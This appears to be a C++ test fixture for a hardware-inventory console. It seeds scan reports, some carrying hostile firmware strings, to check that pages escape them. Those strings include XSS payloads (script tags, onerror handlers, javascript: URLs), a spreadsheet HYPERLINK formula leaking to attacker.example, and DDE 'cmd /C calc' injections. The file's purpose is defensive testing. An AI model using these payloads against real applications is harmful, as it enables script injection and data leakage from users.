// Reports for the console's tests, made the way the scanner makes them: the scan driver over
// a platform whose registry holds a real firmware table (tests/reading/RealReports.h) and whose
// WMI answers describe the machine's product, OS, disks, volumes and controllers; sealed by
// the scanner's own sealing and read back through the receiver's intake.
#pragma once

#include <pugixml.hpp>

#include <functional>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include "reading/Fingerprint.h"
#include "reading/RealReports.h"
#include "reading/Intake.h"
#include "reading/Summary.h"
#include "reading/SummaryJson.h"
#include "receiver/storage/Store.h"
#include "shared/Text.h"

namespace gravelin::testing {

// A console page's body without the one script element every page carries (the console's
// own file, which shows times in the reader's zone): whatever <script is left was written
// by something else.
inline std::string withoutConsoleScript(std::string body) {
    static const std::string tag = "<script src=\"/console.js\" defer></script>";
    if (const auto at = body.find(tag); at != std::string::npos) body.erase(at, tag.size());
    return body;
}

// Strings a hostile firmware (or a hostile person editing a report) could carry; any page
// that lets one through runs script, breaks out of an attribute or plants a formula.
inline const std::string kHostileMaker = "=HYPERLINK(\"http://attacker.example/?leak\",\"Open\")";
inline const std::string kHostileModel =
    "<script>window.__gravelinPwned=1</script>\"onmouseover=\"window.__gravelinPwned=2\" x=\"";
inline const std::string kHostileSerial = "javascript:window.__gravelinPwned=3";
inline const std::string kHostileOs = "<img src=x onerror=\"window.__gravelinPwned=4\">";
inline const std::string kHostileDisk = "'><svg onload=window.__gravelinPwned=5>";
inline const std::string kHostileController = "</td></tr></table><script>window.__gravelinPwned=6</script>";
inline const std::string kHostilePart = "<style>body{display:none}</style>";
inline const std::string kHostileFirmware = "</li><img src=x onerror=window.__gravelinPwned=13>";
inline const std::string kHostileErrors = "<script>window.__gravelinPwned=7</script>";
// In the system's Version, where Lenovo names the product: shown next to the model.
inline const std::string kHostileProduct = "\"><img src=x onerror=window.__gravelinPwned=8>";
// Values that break a page without any markup: a firmware string of 10,000 characters and no
// blank, a maker with a right-to-left override (U+202E) that would reverse what follows it,
// and a serial number with the bytes Windows-1252 leaves undefined (0x81, 0x8D, 0x8F, 0x90,
// 0x9D: U+0081 ... once read as text).
inline const std::string kLongFirmware = "FW" + std::string(9996, 'W') + "END.";
inline const std::string kReversingMaker = "Acme\u202E Systems";
inline const std::string kReversedModel = "Model 7";
inline const std::string kUndefinedBytesSerial = "SN\u0081\u008D\u008F\u0090\u009D42";

struct MachineWmi {
    std::string vendor, name, serial, uuid;
    std::string version;  // Win32_ComputerSystemProduct Version; none when empty
    std::string osCaption = "Microsoft Windows 10 Pro", osVersion = "10.0.19045";
    struct Disk {
        std::string model, serial, firmware;
        std::uint64_t size = 0;
    };
    std::vector<Disk> disks;
    std::string volumeName = "System";
    std::uint64_t volumeFree = 0;
    std::string controllerName = "Intel(R) 82801 SATA AHCI Controller";
};

inline WmiObject wmiObject(const std::string& className,
                           std::vector<std::pair<std::string, WmiValue>> properties) {
    return WmiObject{className, std::move(properties)};
}

inline std::map<std::string, std::vector<WmiObject>, std::less<>> wmiAnswers(const MachineWmi& m) {
    std::map<std::string, std::vector<WmiObject>, std::less<>> wmi;
    std::vector<std::pair<std::string, WmiValue>> product = {
        {"IdentifyingNumber", m.serial}, {"Name", m.name}, {"UUID", m.uuid}, {"Vendor", m.vendor}};
    if (!m.version.empty()) product.emplace_back("Version", m.version);
    wmi["SELECT * FROM Win32_ComputerSystemProduct"] = {
        wmiObject("Win32_ComputerSystemProduct", std::move(product))};
    wmi["SELECT * FROM Win32_OperatingSystem"] = {wmiObject(
        "Win32_OperatingSystem",
        {{"Caption", m.osCaption}, {"Version", m.osVersion}, {"BuildNumber", "19045"},
         {"OSArchitecture", "64-bit"}, {"FreePhysicalMemory", WmiUnsigned{3215360}},
         {"LastBootUpTime", "20261209081500.500000+060"}})};
    std::vector<WmiObject> disks;
    std::uint64_t total = 0;
    for (std::size_t i = 0; i < m.disks.size(); ++i) {
        const auto& d = m.disks[i];
        total += d.size;
        disks.push_back(wmiObject(
            "Win32_DiskDrive", {{"DeviceID", "\\\\.\\PHYSICALDRIVE" + std::to_string(i)},
                                {"FirmwareRevision", d.firmware}, {"InterfaceType", "SCSI"},
                                {"Model", d.model}, {"SerialNumber", d.serial},
                                {"Size", std::to_string(d.size)}}));
    }
    wmi["SELECT * FROM Win32_DiskDrive"] = disks;
    const std::uint64_t volume = total ? total - total / 100 : 0;
    wmi["SELECT * FROM Win32_LogicalDisk"] = {wmiObject(
        "Win32_LogicalDisk",
        {{"DeviceID", "C:"}, {"DriveType", WmiUnsigned{3}}, {"FileSystem", "NTFS"},
         {"FreeSpace", std::to_string(m.volumeFree)}, {"Size", std::to_string(volume)},
         {"VolumeName", m.volumeName}, {"VolumeSerialNumber", "6A3C9F12"}})};
    wmi["SELECT * FROM CIM_Controller"] = {
        wmiObject("Win32_IDEController",
                  {{"Caption", m.controllerName}, {"CreationClassName", "Win32_IDEController"},
                   {"DeviceID", "PCI\\VEN_8086&DEV_2829&SUBSYS_01DA1028&REV_02\\3&172E68DD&0&FA"},
                   {"Manufacturer", "Intel"}, {"Name", m.controllerName}}),
        wmiObject("Win32_USBController",
                  {{"Caption", "Intel(R) 82801H USB Universal Host Controller"},
                   {"CreationClassName", "Win32_USBController"},
                   {"DeviceID", "PCI\\VEN_8086&DEV_2830&SUBSYS_01DA1028&REV_02\\3&172E68DD&0&E8"},
                   {"Manufacturer", "Intel"},
                   {"Name", "Intel(R) 82801H USB Universal Host Controller"}})};
    return wmi;
}

// The sealed text of a scan of the named real table with those WMI answers, after an
// optional edit of the report (what a changed machine, or a hostile one, would send).
inline std::string sealedScan(const std::string& table, const MachineWmi& machine,
                              const std::function<void(pugi::xml_document&)>& edit = {}) {
    const ScannedReport scanned = scanRealTable(table, wmiAnswers(machine));
    if (!edit) return scanned.sealed;
    pugi::xml_document document;
    if (!document.load_string(scanned.xml.c_str())) throw std::runtime_error("report does not parse");
    edit(document);
    std::ostringstream text;
    document.save(text, "  ", pugi::format_default, pugi::encoding_utf8);
    // The code page has no right-to-left override, nor Hebrew: a report carries them as
    // references.
    std::string xml = text.str();
    for (const auto& [character, reference] : {std::pair<std::string, std::string>{"\u202E", "&#x202E;"},
                                               {"\u05E9", "&#x5E9;"}, {"\u05DC", "&#x5DC;"},
                                               {"\u05D5", "&#x5D5;"}, {"\u05DD", "&#x5DD;"}}) {
        for (std::size_t at = xml.find(character); at != std::string::npos; at = xml.find(character, at)) {
            xml.replace(at, character.size(), reference);
        }
    }
    return sealReportText(windows1252().fromUtf8(xml));
}

// Memory module moved: the first populated slot's module goes to the first empty slot.
inline void moveFirstModule(pugi::xml_document& document) {
    const pugi::xml_node memory = document.child("HWInfo").child("SMBIOS_Type_17_MemoryDevice");
    pugi::xml_node populated, empty;
    for (pugi::xml_node slot : memory.children()) {
        const std::string size = slot.attribute("Size").value();
        const bool isEmpty = size.find("No module installed") != std::string::npos;
        if (isEmpty && !empty) empty = slot;
        if (!isEmpty && !populated) populated = slot;
    }
    if (!populated || !empty) throw std::runtime_error("no module to move");
    for (pugi::xml_attribute attribute : populated.attributes()) {
        const std::string name = attribute.name();
        if (name == "DeviceLocator" || name == "BankLocator") continue;
        const std::string moved = attribute.value();
        attribute.set_value(empty.attribute(name.c_str()).value());
        empty.attribute(name.c_str()).set_value(moved.c_str());
    }
}

// Hostile values where no WMI answer reaches: the board, a memory module, the error text.
inline void plantHostileStrings(pugi::xml_document& document) {
    const pugi::xml_node root = document.child("HWInfo");
    for (pugi::xml_node board : root.child("SMBIOS_Type_2_BaseBoard").children()) {
        board.attribute("ProductName").set_value(kHostileSerial.c_str());
        board.attribute("SerialNumber").set_value(kHostileModel.c_str());
    }
    for (pugi::xml_node slot : root.child("SMBIOS_Type_17_MemoryDevice").children()) {
        if (auto part = slot.attribute("PartNumber")) part.set_value(kHostilePart.c_str());
    }
    for (pugi::xml_node application : root.child("Application").children()) {
        application.attribute("Errors").set_value(kHostileErrors.c_str());
    }
    for (pugi::xml_node application : root.children("Application")) {
        if (auto errors = application.attribute("Errors")) errors.set_value(kHostileErrors.c_str());
    }
}

// A processor name no survey chart can fit: 300 characters, right-to-left text first, C1
// controls (what Windows-1252 bytes 0x81 and 0x9D become) and a direction override in it.
inline const std::string kLongProcessor = [] {
    std::string name = "\u05E9\u05DC\u05D5\u05DD\u0081\u009D Processor ";
    // One word, no blank to wrap at.
    for (int i = 0; i < 276; ++i) name += "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"[(i * 7 + i / 5) % 36];
    return name + " @ 9.99GHz \u202E!";
}();
inline const std::string kImageModel = "<img src=x onerror=alert(1)>";

inline void plantLongProcessor(pugi::xml_document& document) {
    for (pugi::xml_node table : document.child("HWInfo").children()) {
        if (!std::string_view(table.name()).starts_with("SMBIOS_Type_4_")) continue;
        for (pugi::xml_node processor : table.children()) {
            processor.attribute("ProcessorVersion").set_value(kLongProcessor.c_str());
        }
    }
}

inline std::string joined(const std::vector<std::string>& parts, const std::string& separator) {
    std::string out;
    for (const auto& part : parts) {
        if (part.empty()) continue;
        if (!out.empty()) out += separator;
        out += part;
    }
    return out;
}

// What the receiver stores for a sealed text: the intake's checks, the summary and its
// searchable columns. The machine's key here is its UUID and serial number; the receiver's
// identity rules are tested in their own room.
inline storage::NewScan newScan(const std::string& sealed, std::int64_t receivedAtMs,
                                const std::string& address = "192.0.2.10") {
    const report::IntakeResult intake = report::receiveSealed(sealed);
    if (intake.rejection != report::Rejection::None) {
        throw std::runtime_error(std::string("intake refused the report: ") +
                                 report::rejectionName(intake.rejection));
    }
    const auto& received = intake.report;
    const report::Summary s = report::summarise(*received.document);
    storage::NewScan scan;
    scan.receivedAtMs = receivedAtMs;
    scan.remoteAddress = address;
    scan.sealedDigest = received.sealedDigest;
    // As the receiver writes it: "1B3F-ADE0-098A".
    for (std::size_t i = 0; i < 12 && i < received.sealedDigest.size(); ++i) {
        if (i > 0 && i % 4 == 0) scan.receipt += '-';
        scan.receipt += asciiUpper(received.sealedDigest[i]);
    }
    scan.reportBytes = received.reportBytes;
    scan.encoding = received.encoding;
    scan.osDescription = received.osDescription;
    scan.programName = received.programName;
    scan.programVersion = received.programVersion;
    scan.errors = received.errors;
    scan.identityKey = "test:" + s.uuid + "|" + s.serialNumber;
    scan.identityRule = "uuid+serial";
    auto& c = scan.columns;
    c.maker = s.maker;
    c.model = s.model;
    c.product = report::productName(s);
    std::vector<std::string> processors, disks, serials{s.serialNumber, s.boardSerial, s.enclosureSerial};
    for (const auto& p : s.processors) processors.push_back(p.model);
    c.processor = joined(processors, "; ");
    c.cores = s.cores;
    c.threads = s.threads;
    c.memoryBytes = s.memoryBytes;
    for (const auto& m : s.memory) {
        if (!m.empty) {
            ++c.memoryModules;
            serials.push_back(m.serialNumber);
        }
    }
    for (const auto& d : s.disks) {
        disks.push_back(d.model + (d.sizeBytes ? " (" + std::to_string(*d.sizeBytes / 1000000000) + " GB)" : ""));
        c.diskBytes += d.sizeBytes.value_or(0);
        serials.push_back(d.serialNumber);
    }
    c.disks = joined(disks, "; ");
    c.os = s.os.empty() ? s.osDescription : s.os;
    c.serialNumbers = joined(serials, " ");
    c.uuid = s.uuid;
    scan.summaryJson = report::toJson(s).dump();
    scan.fingerprint = identity::encodeFingerprint(identity::fingerprintOf(s));
    return scan;
}

// The machines the console's tests and screenshots use: a workstation scanned twice (a
// memory module moved and a disk replaced in between), servers and desktops from the real
// tables, and a machine whose firmware strings are hostile.
struct SeedScan {
    std::string name;    // what the scan is, for messages
    std::string sealed;  // the sealed text the scanner posted
};

inline MachineWmi workstation() {
    MachineWmi m;
    m.vendor = "Dell Inc.";
    m.name = "Precision WorkStation 390";
    m.serial = "7TQCK2J";
    m.uuid = "4C4C4544-0054-5110-8043-B7C04F4B324A";
    m.disks = {{"ST3250310AS", "9RY0WB8K", "3.AAC", 250059350016ULL},
               {"WDC WD5000AAKS-00YGA0", "WD-WCAS82143317", "12.01C02", 500107862016ULL}};
    m.volumeFree = 182334234624ULL;
    return m;
}

inline std::vector<SeedScan> seedScans() {
    std::vector<SeedScan> seeds;
    const MachineWmi before = workstation();
    seeds.push_back({"workstation, first scan", sealedScan("dell-libsmbios-Precision_390", before)});
    MachineWmi after = before;
    after.disks[1] = {"Samsung SSD 860 EVO 500GB", "S3Z1NB0K812345A", "RVT04B6Q", 500107862016ULL};
    after.volumeFree = 97334234624ULL;
    seeds.push_back({"workstation, module moved and disk replaced",
                     sealedScan("dell-libsmbios-Precision_390", after, moveFirstModule)});

    struct Other {
        const char* table;
        const char* vendor;
        const char* name;
        const char* serial;
        const char* uuid;
        const char* os;
        std::uint64_t disk;
    };
    const Other others[] = {
        {"infrasim-dell_r630", "Dell Inc.", "PowerEdge R630", "H3KQ0M2", "4C4C4544-0033-4B10-8051-C8C04F304D32",
         "Microsoft Windows Server 2019 Standard", 1200243695616ULL},
        {"infrasim-dell_r640", "Dell Inc.", "PowerEdge R640", "9XKPL63", "4C4C4544-0058-4B10-8050-B9C04F4C3633",
         "Microsoft Windows Server 2022 Standard", 960197124096ULL},
        {"infrasim-quanta_d51", "Quanta Cloud Technology Inc.", "D51B-2U (dual 1G LoM)", "QTFCJ0532001D",
         "9B3B2B8A-60D3-11E5-9A5C-A81E84F1E2C1", "Microsoft Windows Server 2016 Datacenter", 480103981056ULL},
        {"dell-libsmbios-precisiont7600", "Dell Inc.", "Precision T7600", "3WQ2KX1",
         "4C4C4544-0057-5110-8032-B3C04F4B5831", "Microsoft Windows 10 Pro for Workstations", 2000398934016ULL},
        {"jcreekmore-Dell-Precision-3620", "Dell Inc.", "Precision Tower 3620", "8B6MHG2",
         "4C4C4544-0042-3610-804D-B8C04F484732", "Microsoft Windows 11 Pro", 512110190592ULL},
        {"siderolabs-Beelink-EQ12", "AZW", "EQ12", "EQ12A0123456789", "03000200-0400-0500-0006-000700080009",
         "Microsoft Windows 11 Home", 500107862016ULL},
        {"uroot-Toshiba-SatellitePro-L70", "TOSHIBA", "Satellite Pro L70-A", "6D134567Q",
         "A8F1C2D4-55E6-11E3-8C1A-B8CA3A8F0C11", "Microsoft Windows 8.1 Pro", 750156374016ULL},
        {"infrasim-dell_c6320", "Dell Inc.", "PowerEdge C6320", "CN7475155A0123",
         "4C4C4544-004E-3710-8035-C3C04F513032", "Microsoft Windows Server 2016 Standard", 240057409536ULL},
    };
    for (const auto& o : others) {
        MachineWmi m;
        m.vendor = o.vendor;
        m.name = o.name;
        m.serial = o.serial;
        m.uuid = o.uuid;
        m.osCaption = o.os;
        m.disks = {{"MZ7LH" + std::to_string(o.disk / 1000000000) + "HAJD", std::string("S4") + o.serial,
                    "HXT7404Q", o.disk}};
        m.volumeFree = o.disk / 3;
        seeds.push_back({o.name, sealedScan(o.table, m)});
    }

    MachineWmi unreadable;
    unreadable.vendor = kReversingMaker;
    unreadable.name = kReversedModel;
    unreadable.serial = kUndefinedBytesSerial;
    unreadable.uuid = "0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0";
    unreadable.disks = {{"Long Firmware Disk", "LFD0001", kLongFirmware, 256060514304ULL}};
    unreadable.volumeFree = 1000000000ULL;
    // The edit makes sealedScan write the report itself, which turns the override into a
    // character reference.
    seeds.push_back({"unreadable", sealedScan("dell-libsmbios-PE2600", unreadable, [](pugi::xml_document&) {})});
    MachineWmi hostile;
    hostile.vendor = kHostileMaker;
    hostile.name = kHostileModel;
    hostile.serial = kHostileSerial;
    hostile.uuid = "6B29FC40-CA47-1067-B31D-00DD010662DA";
    hostile.osCaption = kHostileOs;
    hostile.version = kHostileProduct;
    hostile.disks = {{kHostileDisk, "=cmd|' /C calc'!A0", "1.0", 128035676160ULL}};
    hostile.volumeName = kHostileDisk;
    hostile.volumeFree = 1000000000ULL;
    hostile.controllerName = kHostileController;
    seeds.push_back({"hostile", sealedScan("jcreekmore-Dell-Precision-3620", hostile, plantHostileStrings)});
    MachineWmi hostileLater = hostile;
    hostileLater.disks[0].serial = "+SUM(1+1)*cmd|' /C calc'!A0";
    // Markup in a changed value: the change feed and the machine's timeline show it.
    hostileLater.disks[0].firmware = kHostileFirmware;
    seeds.push_back({"hostile, second scan",
                     sealedScan("jcreekmore-Dell-Precision-3620", hostileLater, plantHostileStrings)});
    return seeds;
}

// Reports the survey page is seen with besides the seeds: a machine whose model is markup
// and whose processor name is long, right-to-left and holds controls.
inline std::vector<SeedScan> surveySeeds() {
    MachineWmi m;
    m.vendor = "Surveyed Ltd.";
    m.name = kImageModel;
    m.serial = "SURVEY-0001";
    m.uuid = "5A1B2C3D-4E5F-6071-8293-A4B5C6D7E8F9";
    m.osCaption = "Microsoft Windows 11 Pro";
    m.disks = {{"Samsung SSD 990 PRO 1TB", "S7SURVEY0001", "4B2QJXD7", 1000204886016ULL}};
    m.volumeFree = 400000000000ULL;
    return {{"survey, long processor", sealedScan("jcreekmore-Dell-Precision-3620", m, plantLongProcessor)}};
}

}  // namespace gravelin::testing
